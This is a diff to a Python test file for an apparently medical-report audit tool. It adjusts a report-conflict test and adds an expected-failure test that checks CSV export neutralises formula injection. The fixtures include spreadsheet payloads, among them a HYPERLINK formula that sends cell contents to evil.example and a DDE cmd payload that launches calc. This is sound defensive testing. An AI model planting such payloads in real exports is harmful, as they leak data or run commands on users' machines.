@@ -202,8 +202,12 @@ def test_v3_store_migrates_to_v4_with_its_reviews_chained(tmp_path):
 def test_store_keeps_the_first_report(tmp_path):
     s, _ = _filled(str(tmp_path / "a.sqlite"), n=1)
     run_id, key = s.start_run(RunConfig.build("audit", checker="rules", threshold=0.7))
-    with pytest.raises(StoreError, match="report differs"):
-        s.record_result(run_id, key, StudyRecord("src-0", None, None, "FINDINGS: Normal."), FakeResult(False, 0.1))
+    # a changed report is recorded as a failure of this study (the batch goes on), the stored report stays
+    assert not s.record_result(run_id, key, StudyRecord("src-0", None, None, "FINDINGS: Normal."),
+                               FakeResult(False, 0.1))
+    assert "report differs" in s.conn.execute("SELECT reason FROM failures").fetchone()[0]
+    assert s.conn.execute("SELECT text FROM reports").fetchone()[0] == REPORT
+    run_id, key = s.start_run(RunConfig.build("audit", checker="rules", threshold=0.8))
     # same report under a new configuration: fine, and a second writer of the same result is a no-op
     assert s.record_result(run_id, key, StudyRecord("src-0", None, None, REPORT), FakeResult(False, 0.1))
     assert not s.record_result(run_id, key, StudyRecord("src-0", None, None, REPORT), FakeResult(False, 0.1))
@@ -230,3 +234,33 @@ def test_eight_reviewers_and_an_audit_for_10_seconds(tmp_path):
     assert out["duplicate_reviews"] == 0
     assert out["results_in_store"] == out["results_written"] and out["results_written"] > 0
     assert out["verify_ok"]
+
+
+@pytest.mark.xfail(reason="medmm/audit/runner.py export quotes only dtype==object columns; pandas 3 gives text "
+                   "columns the str dtype, so nothing is quoted (request in /work/notes/requests.md)", strict=True)
+def test_csv_export_quotes_formula_cells(tmp_path):
+    """CSV formula injection: report text, explanations and reviewer names that start like a formula
+    are exported with a leading quote, so a spreadsheet shows them as text."""
+    import csv
+
+    from medmm.audit.runner import export
+
+    db = str(tmp_path / "a.sqlite")
+    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                "\t=1+1"]
+    with Store(db) as s:
+        run_id, key = s.start_run(RunConfig.build("audit", checker="rules", threshold=0.5))
+        for i, p in enumerate(payloads):
+            report = p + " FINDINGS: effusion."
+            flag = FakeFlag("laterality", 0, len(p), p, explanation=p)
+            s.record_result(run_id, key, StudyRecord(f"f-{i}", None, None, report), FakeResult(True, 0.9, (flag,)))
+        for fid in [r[0] for r in s.conn.execute("SELECT id FROM flags")]:
+            s.add_review("=cmd()", "true_error", flag_id=fid)
+    out = tmp_path / "x.csv"
+    assert export(db, str(out)) == len(payloads)
+    with open(out, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert sorted(r["text"] for r in rows) == sorted("'" + p for p in payloads)
+    assert all(r["explanation"] == r["text"] and r["reviewer"] == "'=cmd()" for r in rows)
+    for r in rows:
+        assert not any(v.startswith(("=", "+", "-", "@", "\t")) for v in r.values() if v), r
